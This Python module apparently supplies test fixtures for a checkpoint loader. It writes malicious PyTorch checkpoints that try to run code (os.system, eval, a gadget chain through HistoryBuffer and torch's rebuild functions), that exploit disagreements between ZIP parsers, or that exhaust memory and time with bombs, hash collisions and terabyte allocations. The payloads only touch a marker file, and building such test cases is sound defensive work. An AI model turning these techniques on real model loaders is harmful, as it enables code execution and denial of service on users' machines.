"""Checkpoints that want to run code, reach for objects, or take all the memory.

Each is a function of the path to write and of a mark: a file that is there afterwards if
code of the checkpoint was run.
"""

import builtins
import functools
import io
import operator
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import BinaryIO

import numpy as np
import torch

_HISTORY = 'mmengine.logging.history_buffer HistoryBuffer'


class Call:
    """Pickles to a call.

    Args:
        function (Callable): What to call.
        arguments: With what.
    """

    def __init__(self, function: Callable, *arguments) -> None:
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def save_program(program: bytes, path: Path | BinaryIO,
                 numbers: dict[str, bytes] | None = None,
                 compression: int = zipfile.ZIP_STORED) -> None:
    """Writes a pickle as the content of a checkpoint in torch's ZIP format.

    Args:
        program (bytes): The pickle.
        path (Path | BinaryIO): Where to.
        numbers (dict[str, bytes], optional): Records of tensors, by key.
        compression (int): Of all records.
    """
    with zipfile.ZipFile(path, 'w', compression) as archive:
        archive.writestr('archive/data.pkl', program)
        archive.writestr('archive/version', '3\n')
        for key, content in (numbers or {}).items():
            archive.writestr(f'archive/data/{key}', content)


class Program:
    """Writes a pickle operation by operation, for what no object pickles to."""

    def __init__(self) -> None:
        self.text = b'\x80\x02'
        self.kept = 0

    def add(self, *parts: bytes | str) -> 'Program':
        """Appends operations; a text is a name to load: ``'module name'``."""
        for part in parts:
            self.text += part if isinstance(part, bytes) else (
                f'c{part}\n'.replace(' ', '\n', 1).encode())
        return self

    def string(self, text: str) -> 'Program':
        """Pushes a text."""
        data = text.encode()
        return self.add(b'X' + struct.pack('<I', len(data)) + data)

    def storage(self, kind: str, count: bytes, key: str = '0') -> 'Program':
        """Pushes a storage of a tensor; ``count`` is the operation for its length."""
        self.add(b'(').string('storage').add(f'torch {kind}Storage').string(key)
        return self.string('cpu').add(count, b'tQ')

    def keep(self) -> bytes:
        """Remembers what is on top; returns the operation that fetches it."""
        place, self.kept = bytes([self.kept]), self.kept + 1
        self.add(b'q' + place)
        return b'h' + place

    def end(self) -> bytes:
        """Returns the whole pickle."""
        return self.text + b'.'


# ---- Calls of what runs code ------------------------------------------------------------


def _touch(mark: Path) -> str:
    return f'touch "{mark}"'


def _open_mark(mark: Path) -> str:
    return f'open({str(mark)!r}, "w")'


def _saved(call: Callable[[Path], object], zip_format: bool = True):
    def write(path: Path, mark: Path) -> None:
        torch.save({'state_dict': OrderedDict(weight=torch.zeros(1)), 'meta': call(mark)},
                   path, _use_new_zipfile_serialization=zip_format)
    return write


def _raw(protocol: int):
    def write(path: Path, mark: Path) -> None:
        path.write_bytes(pickle.dumps(Call(os.system, _touch(mark)), protocol))
    return write


def _tar(path: Path, mark: Path) -> None:
    """The format of torch before 0.2, whose reader unpickles three files of the archive."""
    with tarfile.open(path, 'w') as archive:
        for name in ('storages', 'tensors', 'pickle', '../../escaped'):
            content = pickle.dumps(Call(os.system, _touch(mark)), protocol=2)
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))


def _script(path: Path, mark: Path) -> None:
    torch.jit.script(torch.nn.Linear(1, 1)).save(str(path))


# ---- What allowed names can be made to do ------------------------------------------------


def _pickled(make: Callable[..., bytes], *arguments):
    """Writes the pickle that a function makes, with four bytes of numbers."""
    def write(path: Path, mark: Path) -> None:
        save_program(make(*arguments), path, {'0': bytes(4)})
    return write


def _poisoned_history(path: Path, mark: Path) -> None:
    """Runs code through nothing but the names that mmengine's checkpoints have.

    HistoryBuffer keeps what it is told among the statistics of its class, so that the
    stand-in for getattr hands out ``__getattribute__``; torch's own rebuilding of tensors
    calls whatever function it is given.
    """
    program = Program().add(b'(', _HISTORY)
    history = program.keep()
    program.add(b')\x81}').string('statistics_methods').add(b'}(')
    for name in ('__getattribute__', '__class__'):
        program.string(name).add(b'N')
    program.add(b'usb')

    def of_history(name: str) -> bytes:
        program.add('__builtin__ getattr', history).string(name).add(b'\x86R')
        return program.keep()

    def call(function: bytes, kind: bytes, *arguments) -> bytes:
        program.add('torch._tensor _rebuild_from_type_v2', b'(', function, kind, b'(')
        for argument in arguments:
            program.string(argument) if isinstance(argument, str) else program.add(argument)
        program.add(b't}tR')
        return program.keep()

    get, type_ = of_history('__getattribute__'), of_history('__class__')
    mean = of_history('mean')
    program.add(b'}')
    table = program.keep()
    dict_ = call(get, type_, table, '__class__')
    program.add('_codecs encode')
    encode = program.keep()
    builtin = call(get, type_, encode, '__class__')
    names = call(get, dict_, mean, '__globals__')
    builtins_ = call(call(get, builtin, names, '__getitem__'), dict_, '__builtins__')
    evaluate = call(call(get, builtin, builtins_, '__getitem__'), builtin, 'eval')
    program.add(b'K\x01')
    one = program.keep()
    call(evaluate, call(get, type_, one, '__class__'),
         f'__import__("os").system({_touch(mark)!r})')
    save_program(program.add(b't').end(), path)


def _history_attributes() -> bytes:
    """A history whose method ``mean`` is another function."""
    program = Program().add(b'}').string('message_hub').add(_HISTORY, b')\x81}')
    return program.string('mean').add('torch._utils _rebuild_parameter', b'sbs').end()


def _wrapped_dict() -> bytes:
    """A state dict whose method ``items`` is another function."""
    program = Program().add(b'}').string('state_dict')
    program.add('collections OrderedDict', b')R}').string('items')
    return program.add('_codecs encode', b'sbs').end()


def _array_of_pointers() -> bytes:
    """An array of objects, which lie where the numbers of the file say."""
    program = Program().add(b'}').string('state_dict').add('numpy ndarray', b'K\x01\x85')
    return program.string('O').add('__builtin__ bytearray', b'K\x08\x85R\x87Rs').end()


def _type_of_pointers() -> bytes:
    """A type of numbers whose state says that they are objects."""
    program = Program().add(b'}').string('state_dict').add('numpy dtype').string('>f8')
    program.add(b'\x89\x88\x87R(K\x03').string('|')
    return program.add(b'NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3ftbs').end()


def _scalar_of_objects(path: Path, mark: Path) -> None:
    """A number of numpy's of the type of objects, with a pickle as its content."""
    program = Program().add(b'}').string('state_dict')
    program.add('numpy.core.multiarray scalar', 'numpy dtype').string('O')
    program.add(b'\x89\x88\x87R').string(pickle.dumps(
        Call(os.system, _touch(mark)), protocol=0).decode('ascii'))
    save_program(program.add(b'\x86Rs').end(), path)


def _hooks() -> bytes:
    """A tensor with a hook, put among its hooks when the tensor was made already."""
    program = Program().add(b'(', 'collections OrderedDict', b')R')
    hooks = program.keep()
    program.add('torch._utils _rebuild_tensor_v2', b'(').storage('Float', b'K\x01')
    program.add(b'K\x00K\x01\x85K\x01\x85\x89', hooks, b'tR', hooks)
    return program.string('0').add('_codecs encode', b'st').end()


def _attribute_of_lists() -> bytes:
    """Asks for an attribute whose name, written out, is 10**20 characters long."""
    program = Program().add(b'}').string('meta').add(b'(]')
    for _ in range(20):
        inner = program.keep()
        program.add(b'](', inner * 10, b'e')
    name = program.keep()
    return program.add('__builtin__ getattr', _HISTORY, name, b'\x86Rts').end()


def _quantised() -> bytes:
    """A quantised tensor without its scale, which torch does not expect."""
    program = Program().add(b'}').string('state_dict')
    program.add('torch._utils _rebuild_tensor', b'(').storage('QInt8', b'K\x04')
    return program.add(b'K\x00K\x04\x85K\x01\x85tRs').end()


def _call(name: str, arguments: bytes = b')') -> bytes:
    """A call of a function by name, by default without arguments."""
    return Program().add(b'}').string('meta').add(name, arguments, b'Rs').end()


# ---- What readers of archives disagree about ---------------------------------------------


def _two_archives() -> tuple[bytes, bytes, bytes, bytes]:
    """Makes two archives with records of the same names.

    Returns:
        tuple[bytes, bytes, bytes, bytes]: Records and directory of a hostile one, and of a
        harmless one that is shorter.
    """
    parts = []
    # Torch loads the one without complaint, with what is allowed for checkpoints here.
    for program in (_history_attributes(), pickle.dumps({'state_dict': {}}, 2)):
        file = io.BytesIO()
        save_program(program, file)
        data = file.getvalue()
        start, = struct.unpack('<L', data[-6:-2])
        parts += [data[:start], data[start:-22]]
    return tuple(parts)


def _shift(directory: bytes, shift: int, comment: bytes = b'') -> bytes:
    """Moves what a directory names; the last entry gets a comment."""
    moved, place = bytearray(directory), 0
    while place < len(moved):
        last, (name, extra) = place, struct.unpack('<2H', moved[place + 28:place + 32])
        offset, = struct.unpack('<L', moved[place + 42:place + 46])
        moved[place + 42:place + 46] = struct.pack('<L', offset + shift)
        place += 46 + name + extra
    moved[last + 32:last + 34] = struct.pack('<H', len(comment))
    return bytes(moved) + comment


def _end(directory: bytes, offset: int) -> bytes:
    count = directory.count(b'PK\1\2')
    return b'PK\5\6' + struct.pack('<4H2LH', 0, 0, count, count, len(directory), offset, 0)


def _two_directories(path: Path, mark: Path) -> None:
    """zipfile takes the directory before the end, and torch the one that the end names."""
    records, directory, harmless, second = _two_archives()
    start = len(records) + len(directory)
    named = len(records)
    # zipfile shifts all by how far it found the directory from where it is said to be.
    second = _shift(second, named - len(harmless))
    path.write_bytes(records + directory + harmless + second + _end(second, named))
    assert zipfile.ZipFile(path).start_dir == start + len(harmless)


def _two_ends(path: Path, mark: Path) -> None:
    """zipfile looks for an end of 64 bits before its locator, and torch where that says.

    The locator is the comment of the last record, so that the short end fits as well.
    """
    records, directory, harmless, second = _two_archives()
    count = directory.count(b'PK\1\2')
    end = b'PK\6\6' + struct.pack('<Q2H2L4Q', 44, 45, 45, 0, 0, count, count,
                                  len(directory), len(records))
    place = len(records) + len(directory)
    start = place + len(end)
    locator = b'PK\6\7' + struct.pack('<LQL', 0, place, 1)
    second = _shift(second, start, locator)
    path.write_bytes(records + directory + end + harmless + second
                     + _end(second, start + len(harmless)))


def _two_names(path: Path, mark: Path) -> None:
    """Two records with a second name each, which some readers go by: the other's."""
    with zipfile.ZipFile(path, 'w') as archive:
        for name, other, program in (
                ('data.pkl', 'data.txt', _history_attributes()),
                ('data.txt', 'data.pkl', pickle.dumps({'state_dict': {}}, 2))):
            record, other = zipfile.ZipInfo(f'archive/{name}'), f'archive/{other}'.encode()
            checksum = zlib.crc32(record.filename.encode())
            record.extra = struct.pack('<2HBL', 0x7075, 5 + len(other), 1, checksum) + other
            archive.writestr(record, program)
        archive.writestr('archive/version', '3\n')


def _folder_records(changed: str, key: str = '0'):
    """A record that torch takes for a folder: it would load memory that it never wrote."""

    def write(path: Path, mark: Path) -> None:
        with zipfile.ZipFile(path, 'w') as archive:
            for name, content in (('data.pkl', _tensor(1, 1, 1, key)),
                                  ('version', b'3\n'), (f'data/{key}', bytes(4))):
                record = zipfile.ZipInfo(f'archive/{name}')
                record.external_attr = 0x10 if name == changed else 0
                archive.writestr(record, content)

    return write


# ---- What takes memory or time -----------------------------------------------------------


def _tensor(count: int, size: int, stride: int, key: str = '0') -> bytes:
    program = Program().add(b'}').string('state_dict')
    program.add('torch._utils _rebuild_tensor_v2', b'(').storage(
        'Float', b'\x8a\x08' + struct.pack('<q', count), key)
    program.add(b'K\x00', _long(size), _long(stride))
    return program.add(b'\x89', 'collections OrderedDict', b')RtRs').end()


def _long(number: int) -> bytes:
    return b'\x8a\x08' + struct.pack('<q', number) + b'\x85'


def _old_claimed_storage(path: Path, mark: Path) -> None:
    """Numbers of terabytes, as above, in the format without an archive."""
    start = io.BytesIO()
    torch.save({'state_dict': torch.zeros(3)}, start, _use_new_zipfile_serialization=False)
    data = start.getvalue()
    place = data.index(b'q\x08K\x03') if b'q\x08K\x03' in data else data.rindex(b'K\x03N')
    place = data.index(b'K\x03', place)
    path.write_bytes(data[:place] + b'\x8a\x08' + struct.pack('<q', 2**40)
                     + data[place + 2:])


def _bomb(path: Path, mark: Path) -> None:
    """A record of a kilobyte that unfolds to a thousand times as much, and more of them."""
    save_program(pickle.dumps({'state_dict': {}}, 2), path, {'0': bytes(8 << 20)},
                 zipfile.ZIP_DEFLATED)


def _laughs() -> bytes:
    """Lists of ten references to a list of ten references, twenty deep."""
    program = Program().add(b'}').string('meta').add(b'(]')
    for _ in range(20):
        inner = program.keep()
        program.add(b'](', inner * 10, b'e')
    return program.add(b'ts').end()


def _copies() -> bytes:
    """A text of a megabyte that is copied ten thousand times as bytes."""
    program = Program().string('latin1')
    encoding = program.keep()
    text = program.string('x' * 2**20).keep()
    program.add(b'}').string('meta').add(b'(')
    encode = program.add('_codecs encode').keep()
    return program.add((encode + text + encoding + b'\x86R') * 10_000, b'ts').end()


def _repeated_tensors(path: Path, mark: Path) -> None:
    """Four tensors of half a million numbers, all of them one number in the file."""
    torch.save({'state_dict': [torch.zeros(1).expand(2**19) for _ in range(4)]}, path)


def _slow_key() -> bytes:
    """A key whose hash is that of two tuples of two tuples of ..., sixty deep."""
    program = Program().add(b'})')
    for _ in range(60):
        program.add(program.keep(), b'\x86')
    return program.add(b'Ns').end()


def _colliding_keys() -> bytes:
    """Keys that share one hash, each of which is compared with all others."""
    program = Program().add(b'}').string('meta').add(b'}(')
    for factor in range(30_000):
        number = (factor * (2**61 - 1)).to_bytes(10, 'little')
        program.add(b'\x8a\x0a' + number + b'N')
    return program.add(b'us').end()


def _copied_containers(container: bytes, function: str) -> bytes:
    """Twenty thousand copies of a container."""
    program = Program().add(b'}').string('meta').add(b'(', container, b'\x85')
    arguments = program.keep()
    call = program.add(function).keep()
    return program.add((call + arguments + b'R') * 20_000, b'ts').end()


_NUMBERS = [b'M' + struct.pack('<H', i) for i in range(1000)]


def _many_tensors() -> bytes:
    """Half a million tensors, each a few bytes in the file and a thousand in memory."""
    program = Program().add(b'}').string('state_dict').add(b'((').storage('Float', b'K\x01')
    program.add(b'K\x00K\x01\x85K\x01\x85t')
    arguments = program.keep()
    call = program.add('torch._utils _rebuild_tensor').keep()
    return program.add((call + arguments + b'R') * 300_000, b'ts').end()


def _large_directory(path: Path, mark: Path) -> None:
    """A directory of 42 MB, for 700,000 records without content."""
    with zipfile.ZipFile(path, 'w') as archive:
        archive.writestr('archive/data.pkl', pickle.dumps({}, 2))
    data = path.read_bytes()
    start = data.index(b'PK\1\2')
    entry = data[start:-22] * 700_000
    end = struct.pack('<4sQ2H2L4Q', b'PK\6\6', 44, 45, 45, 0, 0, 700_000, 700_000,
                      len(entry), start)
    locator = struct.pack('<4sLQL', b'PK\6\7', 0, start + len(entry), 1)
    last = struct.pack('<4s4H2LH', b'PK\5\6', 0, 0, 0xffff, 0xffff, 0xffffffff,
                       0xffffffff, 0)
    path.write_bytes(data[:start] + entry + end + locator + last)


def _undecodable_name(path: Path, mark: Path) -> None:
    """A record whose name is said to be UTF-8 and is not."""
    with zipfile.ZipFile(path, 'w') as archive:
        archive.writestr('archive/data.pkl', pickle.dumps({}, 2))
        archive.writestr('archive/é', b'')
    path.write_bytes(path.read_bytes().replace('é'.encode(), b'\xff\xfe'))


def _deep() -> bytes:
    return Program().add(b'}').string('meta').add(b']' * 10_000, b'a' * 9_999, b's').end()


def _loop() -> bytes:
    program = Program().add(b']')
    return program.add(program.keep(), b'a').end()


# Written out one by one: the table is what is tested.
RUN_CODE = {
    'os.system': _saved(lambda mark: Call(os.system, _touch(mark))),
    'os.system, old format': _saved(lambda mark: Call(os.system, _touch(mark)), False),
    'os.system, raw text pickle': _raw(0),
    'os.system, raw pickle': _raw(2),
    'os.system, raw new pickle': _raw(5),
    'os.system, tar format': _tar,
    'builtins.eval': _saved(lambda mark: Call(eval, _open_mark(mark))),
    'builtins.exec': _saved(lambda mark: Call(exec, _open_mark(mark)), False),
    'builtins.getattr': _saved(lambda mark: Call(getattr, OrderedDict, '__init__')),
    'builtins.__import__': _saved(lambda mark: Call(builtins.__import__, 'antigravity')),
    'operator.attrgetter': _saved(lambda mark: Call(operator.attrgetter, '__class__')),
    'operator.methodcaller': _saved(lambda mark: Call(operator.methodcaller, 'kill')),
    'functools.partial': _saved(lambda mark: functools.partial(os.system, _touch(mark))),
    'torch.hub': _saved(lambda mark: Call(torch.hub.load, 'a/b', 'c')),
    'torch._C': _pickled(_call, 'torch._C _initExtension'),
    'torch.serialization': _pickled(_call, 'torch.serialization load'),
    'subprocess.Popen': _pickled(_call, 'subprocess Popen'),
    'TorchScript': _script,
    'poisoned HistoryBuffer': _poisoned_history,
    'attributes of HistoryBuffer': _pickled(_history_attributes),
    'attributes of a state dict': _pickled(_wrapped_dict),
    'array of pointers': _pickled(_array_of_pointers),
    'array of objects': _saved(lambda mark: np.array([Call(os.system, _touch(mark))],
                                                     object)),
    'type of pointers': _pickled(_type_of_pointers),
    'number of objects': _scalar_of_objects,
    'hooks of a tensor': _pickled(_hooks),
    'two directories': _two_directories,
    'two ends of an archive': _two_ends,
    'records with two names': _two_names,
    'pickle in a folder record': _folder_records('data.pkl'),
    'numbers in a folder record': _folder_records('data/0'),
    'numbers without a name': _folder_records('', ''),
    'numbers named as a folder': _folder_records('', 'x/'),
}

TAKE_ALL = {
    # Four terabytes: of numbers, with four bytes stored; of a tensor on four bytes, which
    # torch would enlarge; of a tensor that repeats one number.
    'claimed storage': _pickled(_tensor, 2**40, 1, 1),
    'claimed tensor': _pickled(_tensor, 1, 2**40, 1),
    'folded tensor': _pickled(_tensor, 1, 2**40, 0),
    'claimed storage, old format': _old_claimed_storage,
    'compressed records': _bomb,
    'shared lists': _pickled(_laughs),
    'copies of a text': _pickled(_copies),
    'repeated tensors': _repeated_tensors,
    'slow key': _pickled(_slow_key),
    'colliding keys': _pickled(_colliding_keys),
    'copied sets': _pickled(_copied_containers, b'](' + b''.join(_NUMBERS) + b'e',
                            '__builtin__ set'),
    'copied counters': _pickled(_copied_containers, b'}(' + b''.join(
        number + b'K\x01' for number in _NUMBERS) + b'u', 'collections Counter'),
    'many tensors': _pickled(_many_tensors),
    'a terabyte of bytes': _pickled(_call, '__builtin__ bytearray', _long(2**40)),
    'a terabyte of a storage': _pickled(_call, 'torch.storage UntypedStorage',
                                        _long(2**40)),
    'a terabyte of a tensor': _pickled(_call, 'torch FloatTensor', _long(2**40)),
    'large directory': _large_directory,
    'undecodable record name': _undecodable_name,
    'attribute of lists': _pickled(_attribute_of_lists),
    'quantised tensor': _pickled(_quantised),
    'deep lists': _pickled(_deep),
    'a list that holds itself': _pickled(_loop),
}

HOSTILE = {**RUN_CODE, **TAKE_ALL}
